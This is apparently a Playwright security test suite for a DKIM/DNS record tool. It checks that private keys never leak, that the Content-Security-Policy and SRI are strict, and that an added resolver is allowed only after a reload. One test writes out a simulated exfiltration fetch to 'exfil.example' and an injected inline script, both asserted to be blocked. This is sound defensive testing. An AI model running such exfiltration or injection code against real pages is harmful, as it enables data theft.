// Security e2e tests (issue 7, items 4 and 5):
// - secrets: every request the page makes is recorded (context events, a
//   route catch-all and the CDP network log) and every place a page can keep
//   data is dumped after making RSA and Ed25519 keys, sharing a link,
//   downloading and checking; the private keys are in none of them, in any
//   encoding, unless the user opts in to keep the key (then only under
//   localStorage "maildns.dkim.private"); every request goes to the page's
//   origin or the chosen DoH endpoint.
// - hardening: dist/index.html carries the CSP meta whose script hashes match
//   its inline scripts, SRI on every asset, no third-party URL; using both
//   halves raises no CSP violation; a fetch to any other origin and an
//   injected inline script are blocked; a new https resolver is allowed only
//   after the page stores its origin and reloads (src/csp.rs).
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import crypto from 'node:crypto';
import fs from 'node:fs/promises';
import path from 'node:path';
import { assertAccessible } from './lib/a11y.mjs';
import { screenshot, distDir } from './lib/browser.mjs';
import { startFixture, stopFixture } from './lib/fixture.mjs';

let server;
let doh;
let browser;

before(async () => ({ server, doh, browser } = await startFixture({ doh: { adZones: ['good-mail.net'] } })));
after(() => stopFixture({ server, doh, browser }));

// Collects CSP violations from the first script on (an init script runs
// before the page's own) and CSP messages on the console.
const VIOLATION_RECORDER = () => {
  window.__csp = [];
  document.addEventListener('securitypolicyviolation', (e) => {
    window.__csp.push({ directive: e.effectiveDirective, blocked: e.blockedURI, sample: e.sample });
  });
};

async function newContext() {
  const context = await browser.newContext({
    locale: 'en-US', viewport: { width: 1280, height: 900 }, acceptDownloads: true,
    permissions: ['clipboard-read', 'clipboard-write'],
  });
  await context.addInitScript(VIOLATION_RECORDER);
  return context;
}

async function openPage(context, fragment = '') {
  const page = await context.newPage();
  const console = [];
  page.on('console', (m) => console.push(`${m.type()}: ${m.text()}`));
  page.on('pageerror', (e) => console.push(`pageerror: ${e}`));
  await page.goto(`${server.url}/${fragment ? `#${fragment}` : ''}`);
  await page.waitForSelector('#domain');
  return { page, console };
}

// Every request, three ways: Playwright's events (pages, workers, preloads),
// a route catch-all (nothing leaves unseen) and the CDP network log.
async function recordRequests(context, page) {
  const seen = [];
  context.on('request', (r) => seen.push({ via: 'event', url: r.url(), body: r.postData() ?? '' }));
  await context.route('**/*', (route) => {
    const r = route.request();
    seen.push({ via: 'route', url: r.url(), body: r.postData() ?? '' });
    return route.continue();
  });
  const cdp = await context.newCDPSession(page);
  await cdp.send('Network.enable');
  cdp.on('Network.requestWillBeSent', (e) => seen.push({ via: 'cdp', url: e.request.url, body: e.request.postData ?? '' }));
  return { seen, cdp };
}

async function dumpPage(page, cdp) {
  const inPage = await page.evaluate(async () => {
    const store = (s) => Object.fromEntries(Array.from({ length: s.length }, (_, i) => [s.key(i), s.getItem(s.key(i))]));
    return {
      local: store(localStorage),
      session: store(sessionStorage),
      url: location.href,
      cookie: document.cookie,
      historyLength: history.length,
      historyState: JSON.stringify(history.state),
      caches: 'caches' in self ? await caches.keys() : [],
      idb: indexedDB.databases ? (await indexedDB.databases()).map((d) => d.name) : [],
    };
  });
  const nav = await cdp.send('Page.getNavigationHistory');
  inPage.history = nav.entries.map((e) => e.url);
  return inPage;
}

// The encodings a key could leak in.
function needles(pem) {
  const b64 = pem.replace(/-----[^-]+-----/g, '').replace(/\s+/g, '');
  const der = Buffer.from(b64, 'base64');
  const list = {
    pem: pem.trim(),
    body: pem.trim().split('\n').slice(1, -1).join('\n'),
    base64: b64,
    base64url: der.toString('base64url'),
    hex: der.toString('hex'),
    // A slice from the middle: a re-wrapped or partly copied key.
    middle: b64.slice(Math.floor(b64.length / 2) - 24, Math.floor(b64.length / 2) + 24),
  };
  // Ed25519 PKCS#8: 16 bytes of header, then the 32-byte private scalar seed.
  if (der.length === 48 && der.subarray(0, 16).toString('hex') === '302e020100300506032b657004220420') {
    const seed = der.subarray(16);
    Object.assign(list, {
      seed_base64: seed.toString('base64'),
      seed_base64_nopad: seed.toString('base64').replace(/=+$/, ''),
      seed_base64url: seed.toString('base64url'),
      seed_hex: seed.toString('hex'),
    });
  }
  return list;
}

function findLeaks(keys, places) {
  const leaks = [];
  for (const [kname, pem] of Object.entries(keys)) {
    for (const [ename, needle] of Object.entries(needles(pem))) {
      for (const [where, text] of Object.entries(places)) {
        if (String(text).includes(needle)) leaks.push(`${kname} key as ${ename} in ${where}`);
      }
    }
  }
  return leaks;
}

function placesOf(dump, requests, extra = {}) {
  const places = { url: dump.url, cookie: dump.cookie, history: dump.history.join('\n'), historyState: dump.historyState, caches: dump.caches.join('\n'), idb: dump.idb.join('\n'), ...extra };
  for (const [k, v] of Object.entries(dump.local)) places[`localStorage[${k}]`] = v;
  for (const [k, v] of Object.entries(dump.session)) places[`sessionStorage[${k}]`] = v;
  requests.forEach((r, i) => { places[`request ${i} (${r.via}) ${r.url.slice(0, 60)}`] = `${r.url}\n${r.body}`; });
  return places;
}

async function shownKey(page) {
  await page.waitForSelector('#private-key');
  return (await page.textContent('#private-key-pem')).trim();
}

// The Check half: audit good-mail.net through the local DoH endpoint, to the end.
async function auditGoodMail(page) {
  await page.click('#tab-check');
  await page.fill('#check-domain', 'good-mail.net');
  await page.selectOption('#ep-kind', 'custom');
  await page.fill('#ep-url', `${doh.url}/resolve`);
  await page.click('[data-action="audit"]');
  await page.waitForSelector('.check[data-run="done"]', { timeout: 60_000 });
}

test('secrets: the private keys are in no request, storage, URL, history or link unless kept on purpose', async () => {
  const context = await newContext();
  // Recording starts before the page loads: the CDP log is the page's own
  // (the checker worker is another target, which only Playwright's events
  // and the route catch-all see), so it must see the page's loading.
  const page = await context.newPage();
  const { seen, cdp } = await recordRequests(context, page);
  await page.goto(`${server.url}/`);
  await page.waitForSelector('#domain');

  await page.fill('#domain', 'example.com');
  await page.fill('#hosts-0-ipv4-0', '192.0.2.1');
  await page.fill('#dkim-selector', 'mail');
  await page.click('#dkim-generate');
  const rsa = await shownKey(page);
  assert.match(rsa, /^-----BEGIN PRIVATE KEY-----\nMII/);
  await page.check('#dkim-ed25519');
  await page.fill('#dkim-ed25519-selector', 'ed1');
  await page.click('#dkim-generate-ed25519');
  await page.waitForSelector('#private-key-ed25519');
  const ed = (await page.textContent('#private-key-pem-ed25519')).trim();
  assert.equal(await shownKey(page), rsa, 'the RSA key stays shown beside it');
  assert.equal(needles(ed).seed_hex?.length, 64, 'an Ed25519 PKCS#8 key with its 32-byte seed');
  const keys = { rsa, ed25519: ed };

  // Share link (URL and clipboard), downloads, the Check half on the local DoH endpoint.
  await page.click('#share-link');
  await page.waitForSelector('[data-notice-code="ui.gen.share.copied"]');
  const link = await page.evaluate(() => navigator.clipboard.readText());
  assert.match(link, /#p1=/);
  const downloads = {};
  for (const kind of ['zone', 'csv', 'json']) {
    const [download] = await Promise.all([page.waitForEvent('download'), page.click(`#download-${kind}`)]);
    downloads[`download ${kind}`] = await fs.readFile(await download.path(), 'utf8');
  }
  await auditGoodMail(page);
  await page.click('#tab-generate');

  let dump = await dumpPage(page, cdp);
  let places = placesOf(dump, seen, { shareLink: link, clipboard: link, ...downloads });
  assert.deepEqual(findLeaks(keys, places), []);
  for (const [where, text] of Object.entries(places)) assert.doesNotMatch(String(text), /PRIVATE KEY/, where);
  assert.ok(seen.some((r) => r.via === 'route') && seen.some((r) => r.via === 'cdp') && seen.some((r) => r.via === 'event'));
  assert.ok(seen.some((r) => r.url.startsWith(doh.url)), 'the check asked the local DoH endpoint');
  for (const via of ['route', 'event']) {
    assert.ok(seen.some((r) => r.via === via && r.url.startsWith(doh.url)), `${via} sees the checker worker's requests`);
  }

  // Every request: the page's origin or the chosen DoH endpoint's.
  const allowed = new Set([new URL(server.url).origin, new URL(doh.url).origin]);
  const foreign = seen.filter((r) => !r.url.startsWith('data:') && !allowed.has(new URL(r.url).origin));
  assert.deepEqual(foreign.map((r) => `${r.via} ${r.url}`), []);

  // Opt in: each key is kept under its documented key, and nowhere else.
  await page.check('#keep-private');
  await page.check('#keep-private-ed25519');
  await page.waitForFunction(() => /BEGIN PRIVATE KEY/.test(localStorage.getItem('maildns.dkim.private') ?? ''));
  await page.waitForFunction(() => /BEGIN PRIVATE KEY/.test(localStorage.getItem('maildns.dkim.private.ed25519') ?? ''));
  dump = await dumpPage(page, cdp);
  assert.equal(dump.local['maildns.dkim.private'].trim(), rsa);
  assert.equal(dump.local['maildns.dkim.private.ed25519'].trim(), ed);
  places = placesOf(dump, seen, { shareLink: link });
  delete places['localStorage[maildns.dkim.private]'];
  delete places['localStorage[maildns.dkim.private.ed25519]'];
  assert.deepEqual(findLeaks(keys, places), []);
  await assertAccessible(page, 'key kept');

  // Opt out: they are removed.
  await page.uncheck('#keep-private');
  await page.uncheck('#keep-private-ed25519');
  await page.waitForFunction(() => localStorage.getItem('maildns.dkim.private') === null);
  await page.waitForFunction(() => localStorage.getItem('maildns.dkim.private.ed25519') === null);
  dump = await dumpPage(page, cdp);
  assert.deepEqual(findLeaks(keys, placesOf(dump, seen)), []);
  await context.close();
});

const sha = (alg, data) => `${alg}-${crypto.createHash(alg).update(data).digest('base64')}`;

test('dist/index.html: CSP meta with the hashes of its inline scripts, SRI on every asset, nothing third-party', async () => {
  const html = await fs.readFile(path.join(distDir, 'index.html'), 'utf8');
  const meta = /<meta http-equiv="Content-Security-Policy" content="([^"]+)">/.exec(html);
  assert.ok(meta, 'a CSP meta');
  assert.ok(html.indexOf(meta[0]) < html.search(/<script|<link/), 'the policy comes before any script or link');
  const policy = Object.fromEntries(meta[1].split(';').map((d) => d.trim().split(/\s+/)).map(([k, ...v]) => [k, v]));
  assert.deepEqual(policy['default-src'], ["'none'"]);
  assert.deepEqual(policy['style-src'], ["'self'"]);
  assert.deepEqual(policy['img-src'], ["'self'", 'data:']);
  assert.deepEqual(policy['connect-src'], ["'self'", 'https:', 'http://127.0.0.1:*', 'http://localhost:*', 'https://127.0.0.1:*', 'https://localhost:*']);
  for (const d of ['base-uri', 'form-action', 'object-src']) assert.deepEqual(policy[d], ["'none'"], d);
  // The checker and tools from blob: URLs; the service worker, same-origin.
  assert.deepEqual(policy['worker-src'], ["'self'", 'blob:']);
  assert.deepEqual(policy['manifest-src'], ["'self'"]);
  const inline = [...html.matchAll(/<script(?![^>]*\bsrc=)[^>]*>([\s\S]*?)<\/script>/g)].map((m) => m[1]);
  assert.equal(inline.length, 2, 'the boot script and Trunk\'s loader');
  assert.deepEqual(policy['script-src'], ["'self'", ...inline.map((s) => `'${sha('sha256', s)}'`), "'wasm-unsafe-eval'"]);
  assert.doesNotMatch(meta[1], /unsafe-inline|'unsafe-eval'|(^|\s)\*(\s|;|$)|frame-ancestors/);

  const tags = [...html.matchAll(/<(link|script)\b[^>]*>/g)].map((m) => m[0]);
  const assets = tags.filter((t) => /\b(href|src)=/.test(t) && !/href="?data:/.test(t));
  assert.ok(assets.length >= 5, `css, js and wasm: ${assets.length}`);
  for (const tag of assets) {
    const url = /\b(?:href|src)="?([^"\s>]+)/.exec(tag)[1];
    assert.match(url, /^\.\/[\w.-]+$/, `relative, same-origin: ${tag}`);
    // A manifest link takes no integrity attribute (HTML: only script,
    // stylesheet and preload links do); the manifest is same-origin, and
    // the service worker checks its cached copy's hash like every file.
    if (/\brel="?manifest\b/.test(tag)) continue;
    const integrity = /\bintegrity="?([^"\s>]+)/.exec(tag)?.[1];
    assert.ok(integrity, `integrity on ${tag}`);
    const [alg] = integrity.split('-');
    assert.equal(integrity, sha(alg, await fs.readFile(path.join(distDir, url))), `integrity matches ${url}`);
  }
  assert.doesNotMatch(html, /(src|href)="?(https?:)?\/\//, 'no absolute or protocol-relative asset URL');
  for (const css of (await fs.readdir(distDir)).filter((f) => f.endsWith('.css'))) {
    const text = await fs.readFile(path.join(distDir, css), 'utf8');
    assert.doesNotMatch(text, /@import|url\(\s*["']?(https?:)?\/\//, `${css} loads nothing from elsewhere`);
  }
});

test('CSP: both halves in use raise no violation; other origins and injected scripts are blocked', async () => {
  const context = await newContext();
  const { page, console } = await openPage(context);
  const boot = await page.getAttribute('meta[data-maildns-connect]', 'content');
  assert.equal(boot, "connect-src 'self' https://dns.alidns.com https://doh.pub https://dns.google https://cloudflare-dns.com http://127.0.0.1:* http://localhost:* https://127.0.0.1:* https://localhost:*");

  await page.fill('#domain', 'example.com');
  await page.fill('#hosts-0-ipv4-0', '192.0.2.1');
  await page.click('#dkim-generate');
  await shownKey(page);
  await page.check('#dkim-ed25519');
  await page.fill('#dkim-ed25519-selector', 'ed1');
  await page.click('#dkim-generate-ed25519');
  await page.waitForSelector('tr[data-record-name="ed1._domainkey.example.com."], [data-error-code="ui.gen.dkim.keygen_failed"]');
  for (const kind of ['zone', 'csv', 'json']) {
    await Promise.all([page.waitForEvent('download'), page.click(`#download-${kind}`)]);
  }
  await page.click('#private-key-download');
  await page.click('#records button.copy >> nth=0');
  await page.click('#share-link');
  await page.waitForSelector('[data-notice-code="ui.gen.share.copied"]');

  await auditGoodMail(page);
  await page.click('[data-action="verify"]');
  await page.waitForSelector('.check[data-run="done"]', { timeout: 60_000 });
  await page.click('.check-compare summary');
  await page.selectOption('#ep2-kind', 'custom');
  await page.fill('#ep2-url', `${doh.url}/dns-query`);
  await page.selectOption('#ep2-flavor', 'wire');
  await page.click('[data-action="compare"]');
  await page.waitForSelector('.check[data-run="done"] .check-reports.side-by-side', { timeout: 60_000 });
  await screenshot(page, 'security-csp-compare');
  assert.deepEqual(await page.evaluate(() => window.__csp), []);
  assert.deepEqual(console.filter((m) => /Content Security Policy|Refused to/i.test(m)), []);

  // A fetch to an https origin the static policy alone would allow: the
  // boot policy blocks it (and the route never sees it).
  let reached = false;
  await context.route('https://exfil.example/**', (r) => { reached = true; return r.fulfill({ body: 'ok' }); });
  const outcome = await page.evaluate(() => fetch('https://exfil.example/k?x=1').then(() => 'fetched', (e) => `blocked: ${e}`));
  assert.match(outcome, /^blocked/);
  assert.equal(reached, false);
  const blocked = await page.evaluate(() => window.__csp);
  assert.deepEqual(blocked.map((v) => [v.directive, v.blocked]), [['connect-src', 'https://exfil.example/k?x=1']]);
  // An injected inline script does not run.
  await page.evaluate(() => {
    const s = document.createElement('script');
    s.textContent = 'window.__ran = true';
    document.body.append(s);
  });
  assert.equal(await page.evaluate(() => window.__ran ?? false), false);
  assert.ok((await page.evaluate(() => window.__csp)).some((v) => v.directive === 'script-src-elem'));
  await context.close();
});

test('a new https resolver is asked only after the page allowed its origin and reloaded', async () => {
  const context = await newContext();
  const asked = [];
  await context.route('https://dns.example/**', (r) => {
    asked.push(r.request().url());
    return r.fulfill({ status: 200, contentType: 'application/dns-json', body: '{"Status":2,"TC":false,"RD":true,"RA":true,"AD":false,"CD":false,"Question":[]}' });
  });
  const { page } = await openPage(context);
  await page.click('#tab-check');
  await page.fill('#check-domain', 'good-mail.net');
  await page.selectOption('#ep-kind', 'custom');
  await page.fill('#ep-url', 'https://dns.example/resolve');
  await page.waitForSelector('[data-connect-reload]');
  await assertAccessible(page, 'allow resolver');
  await page.click('[data-action="audit"]');
  await page.waitForSelector('[data-notice-code="ui.connect.reload_needed"]');
  assert.deepEqual(asked, []);

  // The page comes back as a check link and the audit starts by itself.
  await Promise.all([page.waitForEvent('load'), page.click('[data-action="allow-endpoint"]')]);
  await page.waitForSelector('.check[data-run="done"]', { timeout: 60_000 });
  assert.equal(await page.inputValue('#ep-url'), 'https://dns.example/resolve', 'the choice comes back after the reload');
  assert.equal(await page.inputValue('#check-domain'), 'good-mail.net');
  assert.equal(await page.evaluate(() => localStorage.getItem('maildns.connect.origins')), '["https://dns.example"]');
  assert.match(await page.getAttribute('meta[data-maildns-connect]', 'content'), / https:\/\/dns\.example$/);
  assert.equal(await page.locator('[data-connect-reload]').count(), 0);
  assert.ok(asked.length > 0 && asked.every((u) => u.startsWith('https://dns.example/resolve?')));
  assert.deepEqual(await page.evaluate(() => window.__csp), []);

  // A share link naming another one: asked once, reload, then it runs.
  const link = `check=good-mail.net&ep=${encodeURIComponent('https://dns2.example/resolve')}&flavor=google`;
  await context.route('https://dns2.example/**', (r) => {
    asked.push(r.request().url());
    return r.fulfill({ status: 200, contentType: 'application/dns-json', body: '{"Status":2,"Question":[]}' });
  });
  asked.length = 0;
  const second = await context.newPage();
  await second.goto(`${server.url}/#${link}`);
  await second.waitForSelector('[data-confirm] [data-connect-reload]');
  await assertAccessible(second, 'confirm a resolver that needs a reload');
  await screenshot(second, 'security-confirm-reload');
  assert.deepEqual(asked, []);
  await Promise.all([second.waitForEvent('load'), second.click('[data-action="confirm-yes"]')]);
  await second.waitForSelector('.check[data-run="done"]', { timeout: 60_000 });
  assert.equal(await second.locator('[data-confirm]').count(), 0, 'not asked twice');
  assert.ok(asked.length > 0 && asked.every((u) => u.startsWith('https://dns2.example/')));
  assert.deepEqual(JSON.parse(await second.evaluate(() => localStorage.getItem('maildns.connect.origins'))), ['https://dns.example', 'https://dns2.example']);
  await second.close();

  // The compare resolver, with no domain typed: the picker gets it back.
  const third = await context.newPage();
  await third.goto(`${server.url}/`);
  await third.click('#tab-check');
  await third.click('.check-compare summary');
  await third.selectOption('#ep2-kind', 'custom');
  await third.fill('#ep2-url', 'https://dns3.example:8443/dns-query');
  await third.selectOption('#ep2-flavor', 'wire');
  await Promise.all([third.waitForEvent('load'), third.click('[data-action="allow-endpoint"]')]);
  await third.click('.check-compare summary');
  await third.waitForFunction(() => document.querySelector('#ep2-url')?.value === 'https://dns3.example:8443/dns-query');
  assert.equal(await third.inputValue('#ep2-flavor'), 'wire');
  assert.match(await third.getAttribute('meta[data-maildns-connect]', 'content'), / https:\/\/dns3\.example:8443$/);
  await context.close();
});
